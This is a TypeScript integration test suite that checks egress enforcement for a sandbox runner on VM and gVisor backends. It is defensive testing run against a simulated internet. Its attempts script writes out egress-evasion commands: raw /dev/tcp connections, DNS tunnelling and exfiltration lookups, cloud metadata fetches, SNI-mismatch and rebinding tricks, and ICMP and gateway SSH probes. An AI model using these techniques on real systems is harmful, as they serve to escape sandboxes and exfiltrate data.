// Egress enforcement from inside real guests (issues 4 and 7), on each backend: a VM under TCG and a
// container under gVisor (runsc). The runner itself runs in the test world's "host" namespace
// (net-topology.ts), whose only route leads to the fake internet, so no attempt, blocked or not,
// can leave this machine. Each attempt must fail and be logged, while an allowed HTTPS and HTTP
// fetch succeeds; then guest root flushes its own nftables and every attempt is made again. The
// tests are the same for both backends; what differs is a parameter (BACKENDS), each with its why.
import { execFile, spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { packageRoot } from "../../runner/cli/policy-files.js";
import type { SandboxReport } from "../../runner/sandbox/index.js";
import { buildTemplate } from "../../runner/sandbox/vm/index.js";
import { ensureDockerd } from "../support/dockerd.js";
import { requireRoot, TEST_STATE_DIR } from "./helpers.js";
import { buildRunnerWorld, HOST_NS, WEB_ROOT } from "./net-topology.js";

const exec = promisify(execFile);
let teardownWorld: (() => Promise<void>) | undefined;
/** The container backend's Docker daemon (test/support/dockerd.ts), known once beforeAll ran. */
let dockerSocket = "";

/** One backend under test: how `sandbox exec` selects it, and what differs about its guest. */
interface Backend {
  readonly name: string;
  readonly args: () => string[];
  /**
   * Whether guest root has an nftables to flush. gVisor implements no netfilter, so in a container
   * `nft flush ruleset` fails; the attempts after it run all the same and must all stay blocked,
   * since the barrier is on the host side either way.
   */
  readonly guestNftables: boolean;
  /**
   * Whether `ping` can send ICMP at all, so the host side sees (and counts) it. gVisor's host
   * network stack has no raw sockets ("can't create raw socket: Address family not supported"),
   * so in a container no ICMP packet ever leaves the guest and the ICMP drop counter stays 0.
   */
  readonly sendsIcmp: boolean;
  /**
   * Whether the guest's /sys/class/net lists its interfaces. Under gVisor it cannot be read
   * (EINVAL), and gVisor's netlink never shows the veth the runner adds late either; there, "no
   * NIC" is shown by a connect failing with "Network is unreachable", as on the VM.
   */
  readonly listsNics: boolean;
}

const BACKENDS: readonly Backend[] = [
  {
    name: "vm (tcg)",
    args: () => ["--backend", "vm", "--accel", "tcg"],
    guestNftables: true,
    sendsIcmp: true,
    listsNics: true,
  },
  {
    name: "container (runsc)",
    args: () => ["--backend", "container", "--docker-socket", dockerSocket],
    guestNftables: false,
    sendsIcmp: false,
    listsNics: false,
  },
];

interface Run {
  code: number;
  stdout: string;
  stderr: string;
  report: SandboxReport;
}

/** A policy file, and the nsenter argv of `sandboxed sandbox exec` under it in the host namespace. */
function execArgs(backend: Backend, policyYaml: string): { dir: string; args: string[] } {
  const dir = mkdtempSync(path.join(tmpdir(), "sbx-egress-"));
  writeFileSync(
    path.join(dir, "policy.yml"),
    `apiVersion: sandboxed/v1\nkind: Policy\n${policyYaml}`,
  );
  const bin = path.join(packageRoot(), "bin", "sandboxed.js");
  const args = [`--net=/run/netns/${HOST_NS}`, "--", process.execPath, bin, "sandbox", "exec"];
  args.push(...backend.args(), "--template", "minimal", "--state-dir", TEST_STATE_DIR);
  args.push("--dns-server", "8.8.8.8", "--policy", path.join(dir, "policy.yml"));
  return { dir, args };
}

/** `sandboxed sandbox exec` inside the host namespace, as a user would run it. */
async function sandboxRun(backend: Backend, policyYaml: string, script: string): Promise<Run> {
  const { dir, args } = execArgs(backend, policyYaml);
  args.push("--report", path.join(dir, "report.json"), "--", "bash", "-c", script);
  let code = 0;
  let stdout: string;
  let stderr: string;
  try {
    ({ stdout, stderr } = await exec("nsenter", args, { maxBuffer: 16 * 2 ** 20 }));
  } catch (error) {
    ({ code, stdout, stderr } = error as { code: number; stdout: string; stderr: string });
  }
  const report = JSON.parse(readFileSync(path.join(dir, "report.json"), "utf8")) as SandboxReport;
  return { code, stdout, stderr, report };
}

const RESOURCES = "resources: { cpus: 1, memory: 512MiB, disk: 256MiB, timeout: 5m }\n";
const ALLOW = `${RESOURCES}network:\n  mode: allowlist\n  allow:\n    - allowed.test\n    - loopback.test\n    - metadata.test\n    - private.test\n`;

/**
 * The guest's own address, as the source of a UDP socket connected to $1 (no packet is sent).
 * Unlike `ip addr`, this works under gVisor, whose netlink does not show the runner's veth.
 */
const GUEST_ADDR = String.raw`guest_addr() { node -e 'const s = require("dgram").createSocket("udp4"); s.connect(53, process.argv[1], () => { console.log(s.address().address); s.close(); })' "$1"; }`;

/** Every way out that must fail. Each line prints "<name>: REACHED" or "<name>: blocked". */
const ATTEMPTS = String.raw`
PROXY_HOSTPORT=$(echo $HTTPS_PROXY | sed 's#http://##')
PROXY_HOST=$(echo $PROXY_HOSTPORT | sed 's#:.*##')
GATEWAY=$(ip route | awk '/default/ {print $3}')
# gVisor's netlink shows no default route: the gateway is .1 of the guest's /30 (address-plan.ts).
${GUEST_ADDR}
[ -n "$GATEWAY" ] || GATEWAY=$(guest_addr $PROXY_HOST | awk -F. '{print $1"."$2"."$3"."($4-1)}')
echo "gateway: $GATEWAY"
# All at once (each alone would wait out its own timeout in turn): every attempt runs in the
# background into its own file, then the lines are printed in the listed order. The limits are
# generous, so a way out that works still gets through on a loaded guest.
R=$(mktemp -d); ORDER=""
t() { n=$1; shift; ORDER="$ORDER $n"; ( if timeout 12 "$@" >/dev/null 2>&1; then echo "$n: REACHED"; else echo "$n: blocked"; fi ) > "$R/$n" 2>&1 & }
C="curl -fsS --connect-timeout 5 -m 10"
t no-proxy-http        $C --noproxy '*' http://93.184.216.34/
t no-proxy-https       $C --noproxy '*' -k https://93.184.216.34/
t ip-literal           $C http://203.0.113.10/
t ip-literal-https     $C -k https://203.0.113.10/
t denied-name          $C -k https://forbidden.test/
t dns-udp-outside      busybox nslookup allowed.test 8.8.8.8
t dns-tcp-outside      bash -c 'exec 3<>/dev/tcp/1.1.1.1/53'
t dns-tunnel-txt       busybox nslookup -type=TXT c2VjcmV0.allowed.test
t dns-denied-name      busybox nslookup exfil-c2VjcmV0.forbidden.test
t forbidden-port       $C -k https://allowed.test:8443/
t sni-mismatch         bash -c "echo | openssl s_client -proxy $PROXY_HOSTPORT -connect allowed.test:443 -servername forbidden.test 2>&1 | grep -q 'BEGIN CERTIFICATE'"
t rebind-loopback      $C http://loopback.test/
t rebind-metadata      $C http://metadata.test/
t rebind-private       $C http://private.test/
t metadata-direct      $C --noproxy '*' http://169.254.169.254/
t metadata-proxy       $C http://169.254.169.254/
t ipv6                 $C -6 --noproxy '*' 'http://[2606:4700:4700::1111]/'
t icmp                 sudo busybox ping -c 1 -W 2 8.8.8.8
t icmp-proxy-host      sudo busybox ping -c 1 -W 2 $PROXY_HOST
t raw-socket           sudo busybox ping -c 1 -W 2 93.184.216.34
t host-other-port      bash -c "exec 3<>/dev/tcp/$PROXY_HOST/22"
t gateway-ssh          bash -c "exec 3<>/dev/tcp/$GATEWAY/22"
wait
for n in $ORDER; do cat "$R/$n"; done
rm -rf "$R"
`;

const NAMES = [...ATTEMPTS.matchAll(/^t (\S+)/gm)].map((m) => m[1]!);

/**
 * A flat apt repository (`deb [trusted=yes] http://allowed.test/debian ./`) with one package,
 * hello-sbx, served by the fake internet: the stand-in for deb.debian.org, which this machine
 * cannot reach. Built with dpkg-deb; Packages and Release are written here, as apt reads them.
 */
async function publishAptRepo(): Promise<void> {
  const repo = path.join(WEB_ROOT, "debian");
  const pkg = mkdtempSync(path.join(tmpdir(), "sbx-deb-"));
  mkdirSync(path.join(pkg, "DEBIAN"));
  mkdirSync(path.join(pkg, "usr/bin"), { recursive: true });
  writeFileSync(
    path.join(pkg, "DEBIAN/control"),
    "Package: hello-sbx\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@example.test>\nDescription: sandboxed test package\n",
  );
  writeFileSync(path.join(pkg, "usr/bin/hello-sbx"), "#!/bin/sh\necho hello from the mirror\n");
  chmodSync(path.join(pkg, "usr/bin/hello-sbx"), 0o755);
  mkdirSync(repo, { recursive: true });
  const deb = "hello-sbx_1.0_all.deb";
  await exec("dpkg-deb", ["--root-owner-group", "--build", pkg, path.join(repo, deb)]);
  const sha256 = (b: Buffer) => createHash("sha256").update(b).digest("hex");
  const debBytes = readFileSync(path.join(repo, deb));
  const control = readFileSync(path.join(pkg, "DEBIAN/control"), "utf8").trimEnd();
  const packages = `${control}\nFilename: ./${deb}\nSize: ${debBytes.length}\nSHA256: ${sha256(debBytes)}\n\n`;
  writeFileSync(path.join(repo, "Packages"), packages);
  writeFileSync(
    path.join(repo, "Release"),
    `Date: ${new Date().toUTCString()}\nSHA256:\n ${sha256(Buffer.from(packages))} ${Buffer.byteLength(packages)} Packages\n`,
  );
}

beforeAll(async () => {
  requireRoot();
  dockerSocket = await ensureDockerd();
  await buildTemplate({ name: "minimal", stateDir: TEST_STATE_DIR, root: packageRoot() });
  teardownWorld = await buildRunnerWorld();
  await publishAptRepo();
}, 900_000);

afterAll(async () => {
  await teardownWorld?.();
});

describe.each(BACKENDS)("egress from a guest: $name", (backend) => {
  it("allows HTTPS and HTTP to allowed names; every other way out fails and is logged, before and after guest root flushes nftables", async () => {
    const script = String.raw`
curl -fsS --connect-timeout 5 -m 20 -k https://allowed.test/ -o /dev/null -w "allowed-https: %{http_code}\n"
curl -fsS --connect-timeout 5 -m 20 http://allowed.test/ -o /dev/null -w "allowed-http: %{http_code}\n"
${ATTEMPTS}
echo "--- after nft flush ruleset"
if sudo nft flush ruleset; then echo "guest nftables: flushed"; else echo "guest nftables: none"; fi
${ATTEMPTS}
`;
    const r = await sandboxRun(backend, ALLOW, script);
    expect(r.stdout).toContain("allowed-https: 200");
    expect(r.stdout).toContain("allowed-http: 200");
    // The gateway must be known, or "gateway-ssh" would be blocked for want of an address.
    expect(r.stdout).toMatch(/^gateway: 10\.203\.\d+\.\d+$/m);
    expect(r.stdout).toContain(`guest nftables: ${backend.guestNftables ? "flushed" : "none"}`);
    const [before, after] = r.stdout.split("--- after nft flush ruleset");
    for (const name of NAMES) {
      expect(before, name).toContain(`${name}: blocked`);
      expect(after, name).toContain(`${name}: blocked`);
    }
    const denied = (r.report.egress?.decisions ?? []).filter((d) => d.verdict === "deny");
    const has = (pred: (d: (typeof denied)[number]) => boolean) => denied.some(pred);
    // Attempts that reach the proxy or the DNS filter are refused there and logged with a reason.
    expect(has((d) => d.host === "203.0.113.10" && d.reason === "ip-literal")).toBe(true);
    expect(has((d) => d.host === "forbidden.test" && d.kind === "connect")).toBe(true);
    expect(
      has((d) => d.host === "allowed.test" && d.port === 8443 && d.reason === "port-not-allowed"),
    ).toBe(true);
    expect(has((d) => d.reason === "sni-mismatch")).toBe(true);
    expect(has((d) => d.host === "loopback.test" && d.reason === "forbidden-address")).toBe(true);
    expect(has((d) => d.host === "metadata.test" && d.reason === "forbidden-address")).toBe(true);
    expect(has((d) => d.host === "private.test" && d.reason === "forbidden-address")).toBe(true);
    expect(has((d) => d.kind === "dns" && d.qtype === "TXT")).toBe(true);
    expect(has((d) => d.kind === "dns" && d.host.endsWith("forbidden.test"))).toBe(true);
    expect(r.report.egress?.allowed).toBeGreaterThanOrEqual(2);
    // Direct attempts never reach the proxy: the host side counts what it dropped.
    const dropped = r.report.egress?.droppedPackets ?? {};
    expect(dropped["direct attempt"], JSON.stringify(dropped)).toBeGreaterThan(0);
    expect(
      dropped["direct attempt: link-local or metadata"],
      JSON.stringify(dropped),
    ).toBeGreaterThan(0);
    if (backend.sendsIcmp) {
      expect(dropped["direct attempt: ICMP"], JSON.stringify(dropped)).toBeGreaterThan(0);
    }
  });

  it("caps bandwidth both ways: a transfer never runs faster than the cap + 10 %", async () => {
    // 8 Mbit/s each way; 4 MiB takes at least 4 s at the cap, so +10 % means at least 3.81 s.
    const bytes = 4 * 2 ** 20;
    const cap = 8e6;
    const r = await sandboxRun(
      backend,
      `${RESOURCES}network:\n  mode: allowlist\n  bandwidth: { egress: 8Mbit, ingress: 8Mbit }\n  allow: [allowed.test]\n`,
      String.raw`
curl -fsS -m 60 http://allowed.test/bytes/${bytes} -o /dev/null -w "down %{time_total} %{size_download}
"
head -c ${bytes} /dev/zero > up.bin
curl -fsS -m 60 -T up.bin http://allowed.test/upload -o /dev/null -w "up %{time_total} %{size_upload}
"
`,
    );
    const down = /down ([\d.]+) (\d+)/.exec(r.stdout);
    const up = /up ([\d.]+) (\d+)/.exec(r.stdout);
    expect(down?.[2]).toBe(String(bytes));
    expect(up?.[2]).toBe(String(bytes));
    const minSeconds = (bytes * 8) / (cap * 1.1);
    expect(Number(down![1])).toBeGreaterThanOrEqual(minSeconds);
    expect(Number(up![1])).toBeGreaterThanOrEqual(minSeconds);
  });

  it("audit, then suggest, then enforce: the suggested allowlist lets the same job pass", async () => {
    const job = String.raw`
curl -fsS -m 20 -k https://allowed.test/ -o /dev/null -w "a %{http_code}
"
curl -fsS -m 20 http://other.test/ -o /dev/null -w "b %{http_code}
"
`;
    const audit = await sandboxRun(backend, `${RESOURCES}network: { mode: audit }\n`, job);
    expect(audit.stdout).toContain("a 200");
    expect(audit.stdout, JSON.stringify(audit.report.egress?.decisions)).toContain("b 200");
    const decisions = audit.report.egress?.decisions ?? [];
    expect(decisions.some((d) => d.host === "other.test" && d.wouldDeny === true)).toBe(true);
    // The job log: one decision per line, as the runner writes it.
    const dir = mkdtempSync(path.join(tmpdir(), "sbx-suggest-"));
    const log = path.join(dir, "job.log");
    writeFileSync(log, decisions.map((d) => JSON.stringify(d)).join("\n"));
    const suggested = path.join(dir, "suggested.yml");
    await exec(process.execPath, [
      path.join(packageRoot(), "bin", "sandboxed.js"),
      "policy",
      "suggest",
      log,
      "--extends",
      "",
      "-o",
      suggested,
    ]);
    const text = readFileSync(suggested, "utf8");
    expect(text).toContain("- { host: allowed.test, ports: [ 443 ] }");
    expect(text).toContain("- { host: other.test, ports: [ 80 ] }");
    const enforced = await sandboxRun(
      backend,
      `${RESOURCES}${text
        .split("\n")
        .filter((l) => !/^(#|apiVersion|kind|description)/.test(l))
        .join("\n")}`,
      `${job}\ncurl -fsS -m 10 http://allowed.test/ -o /dev/null -w "c %{http_code}\n" || echo "c denied"`,
    );
    expect(enforced.stdout).toContain("a 200");
    expect(enforced.stdout).toContain("b 200");
    // Port 80 on allowed.test was never used, so the suggestion does not allow it.
    expect(enforced.stdout).toContain("c denied");
    expect(enforced.report.egress?.mode).toBe("allowlist");
  });

  it("one sandbox cannot reach another: not its guest, not its proxy", async () => {
    const { args } = execArgs(backend, ALLOW);
    const a = spawn(
      "nsenter",
      [
        ...args,
        "--",
        "bash",
        "-c",
        String.raw`${GUEST_ADDR}; PROXY_HOST=$(echo $HTTPS_PROXY | sed 's#http://##; s#:.*##'); echo "LISTEN $(guest_addr $PROXY_HOST) $HTTPS_PROXY"; if timeout 40 busybox nc -l -p 8080 >/dev/null; then echo "A: CONNECTED"; else echo "A: nobody"; fi`,
      ],
      { stdio: ["ignore", "pipe", "pipe"] },
    );
    let out = "";
    const listening = await new Promise<RegExpExecArray>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`A never listened: ${out}`)), 120_000);
      a.stdout.on("data", (c: Buffer) => {
        out += c.toString();
        const m = /LISTEN (\S+) http:\/\/(\S+)/.exec(out);
        if (m) {
          clearTimeout(timer);
          resolve(m);
        }
      });
    });
    const [, guestA, proxyA] = listening;
    const b = await sandboxRun(
      backend,
      ALLOW,
      String.raw`
t() { n=$1; shift; if timeout 8 "$@" >/dev/null 2>&1; then echo "$n: REACHED"; else echo "$n: blocked"; fi; }
t neighbour-direct  bash -c 'exec 3<>/dev/tcp/${guestA}/8080'
t neighbour-proxied curl -fsS --connect-timeout 3 -m 6 http://${guestA}:8080/
t neighbour-proxy   curl -fsS --connect-timeout 3 -m 6 -x http://${proxyA} http://allowed.test/
`,
    );
    const exitA = await new Promise((resolve) => a.on("exit", resolve));
    expect(b.stdout).toContain("neighbour-direct: blocked");
    expect(b.stdout).toContain("neighbour-proxied: blocked");
    expect(b.stdout).toContain("neighbour-proxy: blocked");
    expect(out).toContain("A: nobody");
    expect(exitA).toBe(0);
  });

  it("sudo apt-get update and install from an allowed mirror go through the proxy; a mirror not on the list is refused", async () => {
    // Only the test's sources: the template's deb.debian.org is not on this allowlist.
    const apt = "-q -o Dir::Etc::SourceList=/tmp/sbx.list -o Dir::Etc::SourceParts=/nonexistent";
    const r = await sandboxRun(
      backend,
      `${RESOURCES}network:\n  mode: allowlist\n  allow: [allowed.test]\n`,
      String.raw`
echo "deb [trusted=yes] http://allowed.test/debian ./" > /tmp/sbx.list
sudo apt-get ${apt} --error-on=any update >/tmp/update.log 2>&1; echo "update: $?"
sudo apt-get ${apt} install -y hello-sbx >/tmp/install.log 2>&1; echo "install: $?"
hello-sbx
echo "deb [trusted=yes] http://forbidden.test/debian ./" > /tmp/sbx.list
sudo apt-get ${apt} --error-on=any update >/tmp/denied.log 2>&1; echo "denied update: $?"
grep -c "^E: \|^W: \|^sudo: " /tmp/update.log /tmp/install.log
`,
    );
    expect(r.stdout, r.stdout + r.stderr).toContain(
      "update: 0\ninstall: 0\nhello from the mirror\n",
    );
    expect(r.stdout).toContain("denied update: 100");
    expect(r.stdout).toContain("/tmp/update.log:0\n/tmp/install.log:0\n");
    const decisions = r.report.egress?.decisions ?? [];
    // apt went through the proxy (it has no other way out): allowed there, refused there.
    expect(decisions.some((d) => d.host === "allowed.test" && d.verdict === "allow")).toBe(true);
    expect(decisions.some((d) => d.host === "forbidden.test" && d.verdict === "deny")).toBe(true);
    // Nothing else was refused: no sudo looking its own hostname up in DNS, say.
    const denied = new Set(decisions.filter((d) => d.verdict === "deny").map((d) => d.host));
    expect([...denied]).toEqual(["forbidden.test"]);
  });

  it("network.mode none: the guest has no NIC at all", async () => {
    const r = await sandboxRun(
      backend,
      `${RESOURCES}network: { mode: none }\n`,
      String.raw`echo "nics: $(ls /sys/class/net 2>/dev/null | tr '\n' ' ')"; timeout 8 bash -c 'exec 3<>/dev/tcp/1.1.1.1/80' 2>&1 | tail -1`,
    );
    if (backend.listsNics) expect(r.stdout).toMatch(/^nics: lo $/m);
    expect(r.stdout).toContain("Network is unreachable");
    expect(r.report.egress).toBeUndefined();
  });
});
